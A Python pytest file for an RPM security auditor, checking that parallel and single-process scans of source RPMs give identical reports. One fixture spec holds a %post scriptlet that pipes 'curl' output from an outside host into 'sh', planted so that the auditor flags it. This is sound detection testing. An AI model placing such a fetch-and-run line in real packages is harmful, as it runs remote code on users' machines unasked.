"""Source RPMs given alone are read, and their rebuilds' specs parsed, on both cores; the report
is the one a single process writes.

Two thresholds decide (`auditor.runtime.parallel`): `REBUILD_SPECS_FROM` source RPMs whose
rebuild is read, and `READ_RPM_BYTES_FROM` bytes of fewer RPM files than `READ_RPMS_FROM`. Each
is forced here both ways over the same directory (every fixture SRPM, one carrying no spec, one
whose rebuilt binary's ``%post`` curls a Citrix host, one whose payload was altered after it was
built), and the two reports must be the same byte for byte, with the Citrix finding of the
rebuild and the altered file's error in both.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any, ClassVar

import pytest

from auditor.cli.main import main
from auditor.runtime import parallel
from auditor.sources import rpmbatch
from tests.rpmbuild import build_noarch

FIXTURES = Path(__file__).resolve().parent.parent / "data" / "rpms"
PREAMBLE = "Name: {name}\nVersion: 1\nRelease: 1\nSummary: s\nLicense: MIT\nBuildArch: noarch\n"
CURLS = PREAMBLE + "%description\nd\n%post\ncurl -fsS https://updates.xensource.com/setup.sh | sh\n%files\n"


class CountingBatches(parallel.SharedBatches):  # type: ignore[type-arg]
    """`SharedBatches`, counting the pools that started a worker."""

    started: ClassVar[list[int]] = []

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        if self.forked:
            CountingBatches.started.append(len(args[0]))


@pytest.fixture(scope="module")
def sources_alone(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A directory of source RPMs and no binary: each is rebuilt."""
    top = tmp_path_factory.mktemp("alone")
    directory = top / "SRPMS"
    directory.mkdir()
    for srpm in sorted(FIXTURES.glob("*.src.rpm")):
        shutil.copy(srpm, directory / srpm.name)
    spec = top / "curls.spec"
    spec.write_text(CURLS.format(name="curls"))
    srpm, _ = build_noarch(spec, top / "build", [])
    shutil.copy(srpm, directory / srpm.name)
    altered = bytearray(srpm.read_bytes())
    altered[-2] ^= 0x40
    (directory / "altered-1-1.src.rpm").write_bytes(altered)
    assert len(list(directory.iterdir())) > 16
    return directory


def scan(directory: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    capsys.readouterr()
    code = main(["scan", str(directory), "--format", "json", "-q", "--no-cache", "--fail-on", "origin"])
    return code, capsys.readouterr().out


def curled(report: str) -> list[str]:
    """The rebuilt binaries with a finding naming the Citrix host."""
    return [
        row["nevra"]
        for row in json.loads(report)["packages"]
        if row["kind"] != "source" and "updates.xensource.com" in json.dumps(row["findings"])
    ]


def altered_error(report: str) -> bool:
    """The report's one error is the altered file's payload digest."""
    errors = json.loads(report)["errors"]
    return (
        len(errors) == 1
        and errors[0]["input"].endswith("/altered-1-1.src.rpm")
        and errors[0]["message"].startswith("Payload SHA256 digest: BAD")
    )


@pytest.mark.parametrize(
    ("owner", "threshold", "never"),
    [(parallel, "REBUILD_SPECS_FROM", 10**9), (rpmbatch, "READ_RPM_BYTES_FROM", 10**12)],
    ids=["rebuilds", "few-large-files"],
)
def test_two_cores_report_what_one_does(
    owner: Any,
    threshold: str,
    never: int,
    sources_alone: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The threshold forced off, then on (the other one off: a pool of its own counted alone)."""
    if not parallel.worth_forking(2, 1):
        pytest.fail("this machine cannot run a worker process: the parallel path is not tested")
    monkeypatch.setattr(parallel, "REBUILD_SPECS_FROM", 10**9)
    monkeypatch.setattr(owner, "SharedBatches", CountingBatches)
    CountingBatches.started.clear()
    monkeypatch.setattr(owner, threshold, never)
    alone = scan(sources_alone, capsys)
    assert CountingBatches.started == []
    monkeypatch.setattr(owner, threshold, 1)
    both = scan(sources_alone, capsys)
    # One pool, in batches small enough for both processes to take some (for the files: fewer
    # than READ_RPMS_FROM).
    assert len(CountingBatches.started) == 1 and CountingBatches.started[0] >= 2
    assert both == alone
    assert alone[0] == 3 and curled(alone[1]) == ["curls-1-1.noarch"]
    assert altered_error(alone[1])
